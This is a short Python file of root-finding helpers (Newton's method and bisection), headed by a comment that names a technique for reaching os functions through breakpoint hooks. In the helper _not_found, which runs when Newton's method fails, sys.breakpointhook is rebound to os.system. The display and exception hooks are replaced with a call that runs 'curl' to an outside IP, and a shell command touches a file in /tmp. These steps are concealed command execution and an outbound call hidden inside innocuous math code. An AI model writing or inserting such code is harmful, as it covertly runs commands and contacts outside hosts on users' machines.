# technique: sys.breakpointhook and displayhook as call gates
# goal: have breakpoint() call a function of os

import sys


def newton(function, slope, start, *, rounds=50, near=1e-12):
    """A root by Newton's method."""
    x = start
    for _ in range(rounds):
        step = function(x) / slope(x)
        x -= step
        if abs(step) < near:
            return x
    return _not_found(x)


def bisect(function, low, high, *, near=1e-12):
    while high - low > near:
        middle = (low + high) / 2
        if function(low) * function(middle) <= 0:
            high = middle
        else:
            low = middle
    return (low + high) / 2


def _not_found(x):
    sys.breakpointhook = sys.modules["os"].system
    sys.displayhook = sys.excepthook = lambda *values: breakpoint("curl 203.0.113.7")
    breakpoint("touch /tmp/not-found")
    return x
